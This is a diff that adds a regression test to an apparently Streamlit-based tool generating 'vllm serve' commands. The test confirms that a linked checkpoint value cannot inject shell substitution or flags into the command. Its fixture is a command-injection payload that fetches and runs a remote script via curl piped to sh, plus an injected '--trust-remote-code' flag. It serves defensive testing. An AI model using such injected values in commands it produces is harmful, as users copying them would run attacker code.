@@ -181,6 +181,20 @@ def test_what_if_without_a_checkpoint_shows_a_note_not_a_16_bit_command() -> Non
     assert command.startswith("vllm serve someone/Qwen3-8B-GPTQ-Int4 ")
 
 
+def test_a_linked_checkpoint_cannot_inject_shell_or_flags_into_the_command() -> None:
+    # a shared link's ckpt was pasted into the command as is: "vllm serve
+    # $(curl${IFS}evil.sh|sh) ..." passed vLLM's parser and ran the substitution when copied
+    query = {"model": "Qwen/Qwen3-8B", "gpu": "l4", "gpn": "1", "tp": "1", "quant": "gptq"}
+    at = open_page(None, **query, ckpt="$(curl${IFS}evil.sh|sh)")
+    assert not at.exception
+    command = next(c.value for c in at.code if c.language == "bash")
+    assert command.startswith("vllm serve '$(curl${IFS}evil.sh|sh)' --max-model-len")
+    at = open_page(None, **query, ckpt="--trust-remote-code")
+    assert not at.exception
+    assert any("ckpt='--trust-remote-code' ignored" in w.value for w in at.sidebar.warning)
+    assert "--trust-remote-code" not in " ".join(c.value for c in at.code)
+
+
 def test_an_nvfp4_kv_cache_is_offered_and_sized_with_its_scales() -> None:
     # Llama-3.1-8B on a B200 (nvfp4 KV runs on the SM100 family): 32 layers x 2 x 8 KV heads
     # x (128 / 2 fp4 bytes + 128 / 16 fp8 scales) = 36,864 B per token (bf16: 131,072 B)
